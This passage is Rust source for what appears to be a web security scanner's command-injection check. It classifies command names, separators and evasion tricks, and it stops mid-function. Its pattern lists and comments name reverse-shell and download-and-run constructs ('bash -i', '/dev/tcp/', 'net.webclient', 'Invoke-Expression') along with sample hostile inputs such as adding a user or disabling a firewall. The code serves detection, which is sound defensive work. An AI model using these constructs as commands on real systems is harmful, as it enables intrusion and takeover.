//! `cmdi` check: operating-system command injection.
//!
//! A shell runs a value as a command only where a command can start: after `;`, `|`, `||`,
//! `&`, `&&`, a newline, inside `$(...)` or backticks. The check finds those positions, reads
//! the word there the way a shell would (quotes and backslashes inside a word removed, so
//! `c'a't` and `w"h"oami` are `cat` and `whoami`; `$IFS`, `${IFS}`, `$9` and `$@` removed;
//! `/bin/cat` is `cat`), and looks it up among known command names.
//!
//! # What a name is
//!
//! Some 3,700 names of Linux, BSD, macOS and Windows commands and PowerShell cmdlets are known
//! (`names.rs` says how the lists were made). What a name may do depends on whether people also
//! write it as a word, which was decided with word frequencies in 39 languages:
//!
//! - a name that is not an ordinary word in any of them (`dmesg`, `lpmove`, `schtasks`,
//!   `get-childitem`) blocks when it is the whole value: nobody types `dmesg` in a search box.
//!   After a separator it counts when shell follows, as a word-like command does (below).
//!   PowerShell cmdlets are recognised by shape, an approved verb, a hyphen and a noun only
//!   PowerShell uses, so `set-up`, `add-on` and `read-only` stay prose;
//! - the names of `DISTINCT` and every cmdlet count after any separator, whatever follows:
//!   no sentence puts `whoami`, `uname` or `Get-ChildItem` there. Those that are words
//!   (`bash`, `curl`, `sudo`) are a medium signal (level 2) alone, as are short names that
//!   are not words but collide with codes and initials (`gpg`, `7z`);
//! - commands that are also words (`cat`, `id`, `echo`, `type`, `sleep`, `WORDLIKE`) count
//!   after a separator only when what follows looks like shell, not language: nothing, another
//!   separator, an option (`-la`), a path, a variable, a number, an address, a subcommand
//!   (`net user`, `reg add`) or a registry hive. Prose has the same separators ("Tom & Jerry;
//!   cats | dogs", "my cat is ill; id card lost");
//! - every other command that is an ordinary word or a software brand (`make`, `date`,
//!   `history`, `column`, `nginx`) is only a note (level 4) when it is the whole value, and
//!   nothing elsewhere.
//!
//! # A value that is a command line
//!
//! Without any separator, a value is a command line when it starts with a known command and
//! goes on like one: an option (`uname -a`, `ipconfig /all`, `dir /s`), a variable, an IP
//! address, a drive path (`dir C:\Users`), a path from the root or a URL after a command that
//! is not a word (`curl https://x/y.txt`), a registry hive (`reg add "HKLM\..."`), a
//! subcommand (`net user hacker Password1 /ADD`, `netsh firewall set opmode disable`), a delay
//! (`sleep 5`), one command name after `which` (`which curl`), or anything short after a name
//! of `DISTINCT` or a cmdlet (`Set-ExecutionPolicy Bypass`). A quote before the command
//! (`' whoami`) closes a quoted argument first.
//!
//! Some constructs block wherever they appear: `${IFS}`, `$IFS$9`, `cmd /c`, `%COMSPEC%`,
//! PowerShell's `IEX`, `Invoke-Expression` and `-EncodedCommand`, server-side include
//! directives (`<!--#exec`, `<!--#include`, `<!--#echo`...), and the Shellshock function prefix
//! `() { :;};`.
//!
//! # Performance
//!
//! A short value is sorted in one pass over a byte table: whether it has a separator, and which
//! of the bytes `$ % < - ( / .` that the constructs above need it holds. Each of those is then
//! found eight bytes at a time and the constructs that hold it are tried around it, so a
//! dotted e-mail address or a dashed identity-card number costs no automaton. A value with no
//! separator costs, besides, one look-up of its first word in a hash table, without
//! allocating: most words are turned away by one load, and a word is read into a fixed
//! zero-padded stack buffer that is hashed and compared eight bytes at a time. Long values skip
//! ahead with `memchr`.

mod names;

use std::sync::OnceLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};

use super::Hit;

/// What a known name is, which decides where it counts (see the module documentation).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    /// In [`DISTINCT`] and not a word (`whoami`, `ifconfig`), or a cmdlet: a command after any
    /// separator; alone, a probe that blocks.
    Distinct,
    /// In [`DISTINCT`] but a word (`bash`, `curl`): a command after any separator; alone, a
    /// medium signal.
    DistinctWord,
    /// Not a word (`dmesg`, `get-childitem`): a command after a separator when shell follows;
    /// alone, a probe that blocks.
    Program,
    /// A command that is also a word (`cat`, `id`): a command after a separator when shell
    /// follows, unless prose surrounds it; alone, a note.
    WordLike,
    /// Two or three characters, not a word but a code or initials (`gpg`, `7z`): after a
    /// separator as [`Kind::WordLike`]; alone, a medium signal.
    Short,
    /// An ordinary word (`make`, `date`): alone, a note; nothing more.
    Word,
    /// Software that prose names (`nginx`, `gcc`): alone, a note; a command after `which`.
    Brand,
}

impl Kind {
    /// The level of a value that is this name and nothing else.
    fn alone(self) -> u8 {
        match self {
            Kind::Distinct | Kind::Program => 1,
            Kind::DistinctWord | Kind::Short => 2,
            Kind::WordLike | Kind::Word | Kind::Brand => 4,
        }
    }

    /// Whether it is a command after any separator, whatever follows.
    fn distinct(self) -> bool {
        matches!(self, Kind::Distinct | Kind::DistinctWord)
    }

    /// Whether it is a command, not a word, at the start of a value.
    fn no_word(self) -> bool {
        matches!(self, Kind::Distinct | Kind::DistinctWord | Kind::Program)
    }
}

/// Commands that no sentence puts after a separator: there they count whatever follows. Alone,
/// those that are not words (`whoami`, `netstat`) block and those that are (`bash`, `curl`)
/// are a medium signal.
const DISTINCT: &[&str] = &[
    "bash",
    "bitsadmin",
    "busybox",
    "certutil",
    "chmod",
    "chown",
    "cmd",
    "crontab",
    "csh",
    "cscript",
    "curl",
    "getent",
    "ifconfig",
    "ipconfig",
    "ksh",
    "lsb_release",
    "mshta",
    "msiexec",
    "ncat",
    "netcat",
    "netsh",
    "netstat",
    "nohup",
    "nproc",
    "nslookup",
    "passwd",
    "powershell",
    "pwsh",
    "regsvr32",
    "rundll32",
    "schtasks",
    "sh",
    "socat",
    "sudo",
    "systeminfo",
    "taskkill",
    "tasklist",
    "tcsh",
    "telnet",
    "tftp",
    "uname",
    "useradd",
    "usermod",
    "wget",
    "whoami",
    "wmic",
    "wscript",
    "xterm",
    "zsh",
];

/// Commands that are also words: they count after a separator only when followed by something
/// shell-like. (Those the word frequencies call no word, `mkdir` or `xargs`, are programs, which
/// count there on the same terms and block alone.)
const WORDLIKE: &[&str] = &[
    "alias",
    "awk",
    "base64",
    "call",
    "cat",
    "cd",
    "copy",
    "cp",
    "date",
    "del",
    "df",
    "dig",
    "dir",
    "du",
    "echo",
    "env",
    "eval",
    "exec",
    "exit",
    "export",
    "find",
    "finger",
    "free",
    "ftp",
    "grep",
    "gzip",
    "head",
    "history",
    "host",
    "hostname",
    "id",
    "java",
    "kill",
    "killall",
    "last",
    "less",
    "ln",
    "locate",
    "ls",
    "lua",
    "mail",
    "mkdir",
    "more",
    "mount",
    "move",
    "mv",
    "nc",
    "net",
    "nmap",
    "node",
    "od",
    "openssl",
    "perl",
    "php",
    "ping",
    "pkill",
    "printf",
    "ps",
    "pwd",
    "python",
    "python2",
    "python3",
    "read",
    "reboot",
    "ren",
    "rm",
    "ruby",
    "scp",
    "sed",
    "set",
    "shutdown",
    "sleep",
    "sort",
    "source",
    "ssh",
    "start",
    "strings",
    "su",
    "tail",
    "tar",
    "tee",
    "time",
    "timeout",
    "top",
    "touch",
    "tracert",
    "traceroute",
    "type",
    "uniq",
    "unzip",
    "ver",
    "vol",
    "w",
    "wc",
    "which",
    "who",
    "xargs",
    "xxd",
];

/// Interpreters are also the names of languages ("Skills: Java; Python"): they count only with
/// an argument (`python -c`, `perl -e '...'`, `php /tmp/x`).
const INTERPRETERS: &[&str] = &[
    "java", "lua", "node", "perl", "php", "python", "python2", "python3", "ruby",
];

/// Commands whose first argument says what they do: with one of these after them, a command
/// line is certain (`net user`, `reg add`, `sc query`, `netsh firewall`, `vssadmin delete`).
const SUBCOMMANDS: &[(&str, &[&str])] = &[
    (
        "bcdedit",
        &["/set", "/delete", "/copy", "/export", "/import", "/enum"],
    ),
    (
        "diskutil",
        &[
            "apfs",
            "eject",
            "erasedisk",
            "erasevolume",
            "info",
            "list",
            "mount",
            "partitiondisk",
            "unmount",
            "unmountdisk",
        ],
    ),
    (
        "dsquery",
        &[
            "computer",
            "contact",
            "group",
            "ou",
            "partition",
            "server",
            "site",
            "subnet",
            "user",
        ],
    ),
    ("klist", &["purge", "sessions", "tgt", "tickets"]),
    (
        "launchctl",
        &[
            "bootout",
            "bootstrap",
            "disable",
            "enable",
            "kickstart",
            "list",
            "load",
            "print",
            "remove",
            "start",
            "stop",
            "submit",
            "unload",
        ],
    ),
    (
        "net",
        &[
            "accounts",
            "computer",
            "config",
            "continue",
            "file",
            "group",
            "helpmsg",
            "localgroup",
            "pause",
            "print",
            "session",
            "share",
            "start",
            "statistics",
            "stop",
            "time",
            "use",
            "user",
            "users",
            "view",
        ],
    ),
    (
        "netsh",
        &[
            "add",
            "advfirewall",
            "bridge",
            "delete",
            "dhcpclient",
            "dnsclient",
            "dump",
            "exec",
            "firewall",
            "http",
            "int",
            "interface",
            "ipsec",
            "lan",
            "mbn",
            "nap",
            "netio",
            "ras",
            "rpc",
            "set",
            "show",
            "trace",
            "wcn",
            "wfp",
            "winhttp",
            "winsock",
            "wlan",
        ],
    ),
    (
        "reg",
        &[
            "add", "compare", "copy", "delete", "export", "flags", "import", "load", "query",
            "restore", "save", "unload",
        ],
    ),
    (
        "sc",
        &[
            "config",
            "control",
            "create",
            "delete",
            "description",
            "failure",
            "qc",
            "qdescription",
            "qfailure",
            "query",
            "queryex",
            "sdset",
            "sdshow",
            "start",
            "stop",
        ],
    ),
    (
        "systemctl",
        &[
            "daemon-reload",
            "disable",
            "enable",
            "is-active",
            "kill",
            "list-units",
            "mask",
            "reload",
            "restart",
            "start",
            "status",
            "stop",
            "unmask",
        ],
    ),
    ("vssadmin", &["add", "create", "delete", "list", "resize"]),
    (
        "wevtutil",
        &[
            "cl",
            "clear-log",
            "el",
            "enum-logs",
            "epl",
            "gl",
            "qe",
            "sl",
        ],
    ),
    (
        "wmic",
        &[
            "bios",
            "computersystem",
            "cpu",
            "environment",
            "group",
            "logicaldisk",
            "nicconfig",
            "os",
            "path",
            "process",
            "product",
            "qfe",
            "service",
            "share",
            "startup",
            "useraccount",
        ],
    ),
];

/// The subcommands of `cmd`, if it has any in [`SUBCOMMANDS`].
fn subcommands_of(cmd: &[u8]) -> Option<&'static [&'static str]> {
    // The first byte turns nearly every word away before a comparison.
    let first = cmd.first().copied();
    SUBCOMMANDS
        .iter()
        .find(|(c, _)| c.as_bytes().first().copied() == first && c.as_bytes() == cmd)
        .map(|(_, subs)| *subs)
}

/// Whether `arg` (the word after `cmd`) is one of `cmd`'s subcommands.
fn subcommand(cmd: &[u8], arg: &[u8]) -> bool {
    subcommands_of(cmd)
        .is_some_and(|subs| subs.iter().any(|s| s.as_bytes().eq_ignore_ascii_case(arg)))
}

/// `HKLM\...`, `"HKEY_LOCAL_MACHINE\..."`: a Windows registry path.
fn registry_hive(tok: &[u8]) -> bool {
    let t = tok.strip_prefix(b"\"").unwrap_or(tok);
    if starts_ci(t, 0, b"hkey_") {
        return true;
    }
    [&b"hklm"[..], b"hkcu", b"hkcr", b"hkcc", b"hku"]
        .iter()
        .any(|h| starts_ci(t, 0, h) && matches!(t.get(h.len()), None | Some(b'\\' | b':' | b'"')))
}

/// `C:\`, `c:/Windows`, `\\host\share`: a Windows path.
fn windows_path(tok: &[u8]) -> bool {
    (tok.len() >= 3
        && tok[0].is_ascii_alphabetic()
        && tok[1] == b':'
        && matches!(tok[2], b'\\' | b'/'))
        || tok.starts_with(b"\\\\")
}

/// `http://...`, `ftp://...`: a scheme of letters and `://`.
fn url(tok: &[u8]) -> bool {
    memchr::memmem::find(tok, b"://")
        .is_some_and(|i| i >= 2 && tok[..i].iter().all(u8::is_ascii_alphabetic))
}

/// The bytes that can start a separator or an expansion.
pub(super) const META: [bool; 256] = {
    let mut t = [false; 256];
    let meta = b";|&\n\r`$%{\\";
    let mut i = 0;
    while i < meta.len() {
        t[meta[i] as usize] = true;
        i += 1;
    }
    t
};

/// Bits of [`BYTES`]: a byte of [`META`], and one bit for each byte that a keyword of
/// [`keyword`] may hold (every keyword holds one of `$ % < - ( / .`).
const SEPARATOR: u8 = 1;
const DOLLAR: u8 = 2;
const PERCENT: u8 = 4;
const LT: u8 = 8;
const DASH: u8 = 16;
const PAREN: u8 = 32;
const SLASH: u8 = 64;
const DOT: u8 = 128;
const KEYWORD: u8 = !SEPARATOR;
const KEYWORD_BYTES: [(u8, u8); 7] = [
    (DOLLAR, b'$'),
    (PERCENT, b'%'),
    (LT, b'<'),
    (DASH, b'-'),
    (PAREN, b'('),
    (SLASH, b'/'),
    (DOT, b'.'),
];

/// [`META`] and the keyword bytes in one table.
static BYTES: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        if META[i] {
            t[i] = SEPARATOR;
        }
        i += 1;
    }
    let mut k = 0;
    while k < KEYWORD_BYTES.len() {
        let (bit, byte) = KEYWORD_BYTES[k];
        t[byte as usize] |= bit;
        k += 1;
    }
    t
};

/// Calls `f` with each position of `byte` in `b` (a short value) until it returns true, eight
/// bytes at a time, so that a value with a few dots or dashes costs no branch per byte.
#[inline]
fn any_position(b: &[u8], byte: u8, mut f: impl FnMut(usize) -> bool) -> bool {
    const LOW7: u64 = 0x7F7F_7F7F_7F7F_7F7F;
    let pattern = u64::from(byte) * 0x0101_0101_0101_0101;
    // The high bit of each byte of `x` that is `byte`, exactly (no borrow between bytes).
    let found = |x: u64| {
        let y = x ^ pattern;
        !(((y & LOW7) + LOW7) | y | LOW7)
    };
    let mut visit = |at: usize, mut hits: u64| {
        while hits != 0 {
            if f(at + hits.trailing_zeros() as usize / 8) {
                return true;
            }
            hits &= hits - 1;
        }
        false
    };
    let mut chunks = b.chunks_exact(8);
    for (c, chunk) in chunks.by_ref().enumerate() {
        let x = u64::from_le_bytes([
            chunk[0], chunk[1], chunk[2], chunk[3], chunk[4], chunk[5], chunk[6], chunk[7],
        ]);
        if visit(c * 8, found(x)) {
            return true;
        }
    }
    let tail = chunks.remainder().len();
    if tail == 0 {
        return false;
    }
    if b.len() >= 8 {
        // The last eight bytes, of which the first `8 - tail` were seen already.
        let at = b.len() - 8;
        let last = &b[at..];
        let x = u64::from_le_bytes([
            last[0], last[1], last[2], last[3], last[4], last[5], last[6], last[7],
        ]);
        return visit(at, found(x) & (u64::MAX << (8 * (8 - tail))));
    }
    let x = b.iter().rev().fold(0, |x, &c| x << 8 | u64::from(c));
    // Zero padding is never `byte`, which is not zero.
    visit(0, found(x))
}

/// Scans one decoded value.
pub fn scan(value: &str) -> Option<Hit> {
    let b = value.as_bytes();
    // Short values in one pass over a byte table, then, for each keyword byte they hold, the
    // keywords around each of its places; long ones with `memchr`, which skips ahead.
    let (has_meta, may_keyword) = if b.len() <= 64 {
        let classes = b.iter().fold(0u8, |m, &c| m | BYTES[usize::from(c)]);
        (
            classes & SEPARATOR != 0,
            classes & KEYWORD != 0 && short_may_have_keyword(b, classes),
        )
    } else {
        let meta = memchr::memchr3(b';', b'|', b'&', b).is_some()
            || memchr::memchr3(b'\n', b'\r', b'`', b).is_some()
            || memchr::memchr3(b'$', b'%', b'{', b).is_some()
            || memchr::memchr(b'\\', b).is_some();
        (meta, may_have_keyword(b))
    };
    if may_keyword {
        if let Some(h) = keyword(value) {
            return Some(h);
        }
    }
    if !has_meta {
        return leading_command(value);
    }
    separators(value)
}

/// [`scan`] for a parameter name or a JSON key rather than a value: the same, except that a
/// name that is one bare word is a medium signal at most. Forms name their fields `passwd`,
/// `uname` or `hostname`; a value that is `uname` alone is a probe, a field called so is not.
pub fn scan_key(key: &str) -> Option<Hit> {
    scan(key).map(|hit| as_key(key, hit))
}

/// A hit of [`scan`] on `key`, weighed as [`scan_key`] weighs it.
pub(crate) fn as_key(key: &str, mut hit: Hit) -> Hit {
    if key
        .trim_ascii()
        .bytes()
        .all(|c| WORD_BYTE[usize::from(c)] != 0)
    {
        hit.level = hit.level.max(2);
    }
    hit
}

/// [`scan`] of a value with a separator: the command after each, or at the start.
#[inline(never)]
fn separators(value: &str) -> Option<Hit> {
    let b = value.as_bytes();
    let mut best: Option<Hit> = None;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        // Most bytes are not separators: one table load turns them away.
        if !META[usize::from(c)] {
            i += 1;
            continue;
        }
        let sep_len = match c {
            b';' | b'\n' | b'\r' | b'`' => 1,
            b'|' | b'&' => {
                if b.get(i + 1) == Some(&c) {
                    2
                } else {
                    1
                }
            }
            b'$' if b.get(i + 1) == Some(&b'(') => 2,
            b'{' => 1,
            // A literal `\n` written out in the value.
            b'\\' if matches!(b.get(i + 1), Some(b'n' | b'r')) => 2,
            // A separator still percent-encoded (the value was encoded twice).
            b'%' if encoded_separator(b.get(i + 1..i + 3)) => 3,
            _ => 0,
        };
        if sep_len == 0 {
            i += 1;
            continue;
        }
        if let Some(h) = after_separator(value, i, sep_len) {
            if h.level == 1 {
                return Some(h);
            }
            if best.as_ref().is_none_or(|b| h.level < b.level) {
                best = Some(h);
            }
        }
        i += sep_len;
    }
    best.or_else(|| leading_command(value))
}

/// [`may_have_keyword`] for a short value whose bytes have the [`BYTES`] bits `classes`: each
/// keyword byte it holds is looked for eight bytes at a time, and the keywords that may hold it
/// are tried around each place.
#[inline(never)]
fn short_may_have_keyword(b: &[u8], classes: u8) -> bool {
    (classes & DOT != 0 && any_position(b, b'.', |p| near_dot(b, p)))
        || (classes & DASH != 0 && any_position(b, b'-', |p| near_dash(b, p)))
        || (classes & SLASH != 0 && any_position(b, b'/', |p| near_slash(b, p)))
        || (classes & PAREN != 0 && any_position(b, b'(', |p| near_paren(b, p)))
        || (classes & DOLLAR != 0 && any_position(b, b'$', |p| near_dollar(b, p)))
        || (classes & PERCENT != 0 && any_position(b, b'%', |p| near_percent(b, p)))
        || (classes & LT != 0 && any_position(b, b'<', |p| near_lt(b, p)))
}

/// True for the hex digits of `%0a`, `%0d`, `%26`, `%3b`, `%60` or `%7c`.
fn encoded_separator(hex: Option<&[u8]>) -> bool {
    matches!(
        hex.map(|h| [
            h[0].to_ascii_lowercase(),
            h.get(1).map_or(0, u8::to_ascii_lowercase)
        ]),
        Some([b'0', b'a' | b'd'] | [b'2', b'6'] | [b'3', b'b'] | [b'6', b'0'] | [b'7', b'c'])
    )
}

/// Whether a shell's command word that was read up to `end` ends there, so that the command is
/// the name read and not a longer word: the end of the value, a space (also `+` or `%20` left
/// encoded), a separator or a redirection, past any expansions glued to it (`ls$IFS/`,
/// `who$x;`). A word that goes on (`w$x!y`, `W%a%b`, `w[q`) names some other program.
fn word_ends_at(b: &[u8], end: usize) -> bool {
    let mut i = end;
    loop {
        let Some(&c) = b.get(i) else {
            return true;
        };
        match c {
            // `}` closes a brace group (`{ id;}`) or a payload list's `{cmd}` placeholder.
            b' ' | b'\t' | b'\n' | b'\r' | b'+' | b';' | b'|' | b'&' | b'<' | b'>' | b'('
            | b')' | b'`' | b'^' | b'\\' | b'}' => return true,
            b'$' => {
                // `$IFS`, `$x`: an expansion; `$'...'`, `$(`: quoting or a substitution.
                let name = b[i + 1..]
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                    .count();
                if name == 0 {
                    return true;
                }
                i += 1 + name;
            }
            b'%' => {
                let hex = b.get(i + 1..i + 3);
                if encoded_separator(hex) || matches!(hex, Some(b"20" | b"09")) {
                    return true;
                }
                // `%comspec%`: a variable of `cmd`, glued to the word.
                let name = b[i + 1..]
                    .iter()
                    .take(32)
                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                    .count();
                if name == 0 || b.get(i + 1 + name) != Some(&b'%') {
                    return false;
                }
                i += name + 2;
            }
            _ => return false,
        }
    }
}

/// Whether a command name written as `written` can run: Unix names are lower case and the shell
/// matches case, so `W`, `Sh` or `dF` in a generated password are no `w`, `sh` or `df`. Names
/// of three letters or more may be capitalised for `cmd`, which ignores case (`DIR`, `Dir`,
/// `WhoAmI`), but not in camel case (`getText`); of three, only as a word is (`dIr` is noise).
fn case_can_run(written: &[u8]) -> bool {
    let mut letters = written.iter().filter(|c| c.is_ascii_alphabetic());
    let Some(first) = letters.next() else {
        return true;
    };
    let (mut n, mut upper_after) = (1, 0);
    for c in letters {
        n += 1;
        upper_after += usize::from(c.is_ascii_uppercase());
    }
    match n {
        _ if !first.is_ascii_uppercase() && upper_after == 0 => true,
        1 | 2 => false,
        3 => upper_after == 0 || upper_after == 2,
        // `getText`, `isEmpty`: an identifier in camel case, not a way of writing a command.
        _ => first.is_ascii_uppercase(),
    }
}

/// Whether `hay[..end]` ends with `suffix`, ignoring ASCII case.
fn ends_ci(hay: &[u8], end: usize, suffix: &[u8]) -> bool {
    end >= suffix.len() && hay[end - suffix.len()..end].eq_ignore_ascii_case(suffix)
}

/// Whether `hay[at..]` starts with `prefix`, ignoring ASCII case.
fn starts_ci(hay: &[u8], at: usize, prefix: &[u8]) -> bool {
    hay.len() >= at + prefix.len() && hay[at..at + prefix.len()].eq_ignore_ascii_case(prefix)
}

/// Whether a pattern of [`keyword`] may hold the byte at `b[p]`, one of `$ % < - ( / .`: each
/// is checked against the patterns that hold it, around it, so URLs and user agents (full of
/// `/`, `.` and `(`) are cleared without running the automaton.
fn keyword_near(b: &[u8], p: usize) -> bool {
    match b[p] {
        b'$' => near_dollar(b, p),
        b'%' => near_percent(b, p),
        b'<' => near_lt(b, p),
        b'-' => near_dash(b, p),
        b'(' => near_paren(b, p),
        b'/' => near_slash(b, p),
        b'.' => near_dot(b, p),
        _ => false,
    }
}

/// `${ifs}`, `$ifs`.
fn near_dollar(b: &[u8], p: usize) -> bool {
    starts_ci(b, p + 1, b"ifs") || starts_ci(b, p + 1, b"{ifs}")
}

/// `%comspec%`.
fn near_percent(b: &[u8], p: usize) -> bool {
    starts_ci(b, p + 1, b"comspec%")
}

/// A server-side include directive (`<!--#exec`, `<!--#include`, `<!--#echo`...).
fn near_lt(b: &[u8], p: usize) -> bool {
    ssi_directive(b, p).is_some()
}

/// The directives of server-side includes (Apache's `mod_include`, nginx's `ssi`, IIS): a page
/// that echoes a value into a parsed file runs them.
const SSI_DIRECTIVES: [&[u8]; 10] = [
    b"exec",
    b"include",
    b"echo",
    b"printenv",
    b"config",
    b"fsize",
    b"flastmod",
    b"set",
    b"if",
    b"elif",
];

/// The end of the server-side include directive whose `<` is at `b[p]`, if one starts there:
/// `<!--#`, then a directive name and a space, `-` or the end.
fn ssi_directive(b: &[u8], p: usize) -> Option<usize> {
    if !starts_ci(b, p, b"<!--#") {
        return None;
    }
    let at = p + 5;
    SSI_DIRECTIVES.iter().find_map(|d| {
        let end = at + d.len();
        (starts_ci(b, at, d)
            && b.get(end)
                .is_none_or(|c| c.is_ascii_whitespace() || *c == b'-'))
        .then_some(end)
    })
}

/// `invoke-expression`, `invoke-webrequest`, `start-process`, `-encodedcommand`, `bash -i`,
/// `/bin/sh -c`, `/bin/bash -c`.
fn near_dash(b: &[u8], p: usize) -> bool {
    ends_ci(b, p, b"invoke")
        || ends_ci(b, p, b"start")
        || ends_ci(b, p, b"sh ")
        || starts_ci(b, p, b"-encodedcommand")
}

/// `downloadstring(`, `downloadfile(`, `iex(`, `iex (`, Shellshock's `() {`.
fn near_paren(b: &[u8], p: usize) -> bool {
    shellshock(b, p).is_some()
        || ends_ci(b, p, b"iex")
        || ends_ci(b, p, b"iex ")
        || ends_ci(b, p, b"downloadstring")
        || ends_ci(b, p, b"downloadfile")
}

/// `cmd /c`, `cmd.exe /k`, `/bin/sh -c`, `/dev/tcp/`.
fn near_slash(b: &[u8], p: usize) -> bool {
    ends_ci(b, p, b"cmd ")
        || ends_ci(b, p, b"cmd.exe ")
        || starts_ci(b, p, b"/bin/")
        || starts_ci(b, p, b"/dev/tcp/")
}

/// `net.webclient`.
fn near_dot(b: &[u8], p: usize) -> bool {
    ends_ci(b, p, b"net") && starts_ci(b, p, b".webclient")
}

/// The exact prefilter of [`keyword`] for long values: false only when none of its patterns
/// occurs in `b`. Every pattern holds one of `$ % < - ( / .`.
fn may_have_keyword(b: &[u8]) -> bool {
    memchr::memchr3_iter(b'$', b'%', b'<', b).any(|p| keyword_near(b, p))
        || memchr::memchr3_iter(b'-', b'(', b'/', b).any(|p| keyword_near(b, p))
        || memchr::memchr_iter(b'.', b).any(|p| keyword_near(b, p))
}

/// Shellshock's function prefix at `b[p]`: `()`, `{`, one character, `;` (`() { :;};`,
/// `() { _; } >_[$($())] {`), spaces allowed between them; returns the index past the `;`. A
/// function whose whole body is one character is written only to smuggle what follows into a
/// Bash environment variable.
fn shellshock(b: &[u8], p: usize) -> Option<usize> {
    let mut i = p;
    // Each step skips at most 16 spaces, so the work per `(` is bounded.
    let expect = |i: &mut usize, c: u8| {
        let mut n = 0;
        while *i < b.len() && b[*i] == b' ' && n < 16 {
            *i += 1;
            n += 1;
        }
        let ok = b.get(*i) == Some(&c);
        *i += 1;
        ok
    };
    if !(expect(&mut i, b'(') && expect(&mut i, b')') && expect(&mut i, b'{')) {
        return None;
    }
    let mut n = 0;
    while i < b.len() && b[i] == b' ' && n < 16 {
        i += 1;
        n += 1;
    }
    if i >= b.len() || matches!(b[i], b';' | b'}' | b' ') {
        return None;
    }
    i += 1;
    expect(&mut i, b';').then_some(i)
}

/// Constructs that are command injection wherever they appear. [`scan`] calls it only when
/// [`keyword_near`] found one of their bytes where a pattern may hold it.
fn keyword(value: &str) -> Option<Hit> {
    let b = value.as_bytes();
    // The first construct that `ends` finds at a `byte`, as a hit.
    let first = |byte: u8, ends: fn(&[u8], usize) -> Option<usize>, rule: &'static str| {
        memchr::memchr_iter(byte, b).find_map(|p| {
            ends(b, p).map(|end| Hit {
                level: 1,
                rule,
                evidence: p..end,
            })
        })
    };
    if let Some(h) = first(b'(', shellshock, "shell-construct")
        .or_else(|| first(b'<', ssi_directive, "server-side-include"))
    {
        return Some(h);
    }
    static AC: OnceLock<Option<AhoCorasick>> = OnceLock::new();
    const PATTERNS: [&str; 21] = [
        "${ifs}",
        "$ifs$",
        "$ifs",
        "%comspec%",
        "invoke-expression",
        "-encodedcommand",
        "invoke-webrequest",
        "downloadstring(",
        "downloadfile(",
        "net.webclient",
        "cmd /c",
        "cmd.exe /c",
        "cmd /k",
        "cmd.exe /k",
        "iex(",
        "iex (",
        "start-process",
        "/bin/sh -c",
        "/bin/bash -c",
        "bash -i",
        "/dev/tcp/",
    ];
    let ac = AC
        .get_or_init(|| {
            AhoCorasickBuilder::new()
                .ascii_case_insensitive(true)
                .match_kind(MatchKind::LeftmostFirst)
                .build(PATTERNS)
                .ok()
        })
        .as_ref()?;
    for m in ac.find_iter(b) {
        let p = PATTERNS[m.pattern().as_usize()];
        let before_ok = m.start() == 0 || !b[m.start() - 1].is_ascii_alphanumeric();
        if !before_ok && !p.starts_with(['$', '%', '<', '/', '-']) {
            continue;
        }
        if p == "$ifs"
            && b.get(m.end())
                .is_some_and(|c| c.is_ascii_alphanumeric() && *c != b'9')
        {
            continue;
        }
        return Some(Hit {
            level: 1,
            rule: "shell-construct",
            evidence: m.start()..m.end(),
        });
    }
    None
}

/// Reads the word at `start` as a shell would, into `word` (lower case, quotes, backslashes and
/// `$IFS`-like expansions removed, directory prefix dropped); returns the index just past it. A
/// word longer than any name is left empty.
fn read_word(b: &[u8], start: usize, word: &mut names::Word) -> usize {
    // The length in a local, not in `word`, so that the loop keeps it in a register.
    let mut n = word.len;
    let mut i = start;
    while i < b.len() {
        // Letters, digits, `.`, `_` and `-` go straight into the word, in a tight loop.
        while let Some(&lower) = b.get(i).map(|&c| &WORD_BYTE[usize::from(c)]) {
            if lower == 0 {
                break;
            }
            let Some(slot) = word.bytes.get_mut(n) else {
                word.bytes.fill(0);
                word.len = 0;
                return i;
            };
            *slot = lower;
            n += 1;
            i += 1;
        }
        let Some(&c) = b.get(i) else {
            break;
        };
        match c {
            // A written-out `\n` ends the word; other backslashes only quote.
            b'\\' if n > 0 && matches!(b.get(i + 1), Some(b'n' | b'r')) => break,
            b'\'' | b'"' | b'\\' => i += 1,
            b'$' => {
                // `$@`, `$*`, `$9`, `${x}`-less `$IFS`: expansions that are empty or spaces.
                match b.get(i + 1) {
                    Some(b'@' | b'*' | b'0'..=b'9') => i += 2,
                    Some(b'{') => match memchr::memchr(b'}', &b[i..b.len().min(i + 12)]) {
                        Some(end) => i += end + 1,
                        None => break,
                    },
                    _ => break,
                }
            }
            b'/' => {
                // `/bin/cat`, `/usr/bin/id`: keep the last component.
                word.bytes[..n].fill(0);
                n = 0;
                i += 1;
            }
            _ => break,
        }
    }
    word.len = n;
    i
}

/// Whether `b` starts with a command's name (`whoami`, `ls`, `cat`, `/bin/id`; not an ordinary
/// word only, such as `date`, nor a brand), followed by the end, a space or `)`: the argument of
/// PHP's `system(...)`.
pub(super) fn program_at(b: &[u8]) -> bool {
    let mut word = names::Word::new();
    let end = read_word(b, 0, &mut word);
    if !matches!(b.get(end), None | Some(b' ' | b'\t' | b')')) {
        return false;
    }
    names::lookup_word(&word).is_some_and(|(kind, _)| {
        matches!(
            kind,
            Kind::Distinct | Kind::DistinctWord | Kind::Program | Kind::WordLike | Kind::Short
        )
    })
}

/// For each byte of a word (an ASCII letter, a digit, `.`, `_`, `-`), its lower case; 0 for
/// every other byte.
static WORD_BYTE: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut c = 0;
    while c < 256 {
        let b = c as u8;
        if b.is_ascii_alphanumeric() || b == b'.' || b == b'_' || b == b'-' {
            t[c] = b.to_ascii_lowercase();
        }
        c += 1;
    }
    t
};

/// How many words (three letters or more) stand within 64 bytes around `at..end`: markdown and
/// sentences have several, an injected value next to none.
fn words_around(b: &[u8], at: usize, end: usize) -> usize {
    let count = |w: &[u8]| {
        w.split(|c| !c.is_ascii_alphabetic())
            .filter(|w| w.len() >= 3)
            .count()
    };
    count(&b[at.saturating_sub(64)..at]) + count(&b[end..b.len().min(end + 64)])
}

/// The first whitespace-separated token of `rest` (already trimmed at the start).
fn first_token(rest: &[u8]) -> &[u8] {
    let end = rest
        .iter()
        .position(|c| c.is_ascii_whitespace())
        .unwrap_or(rest.len());
    &rest[..end]
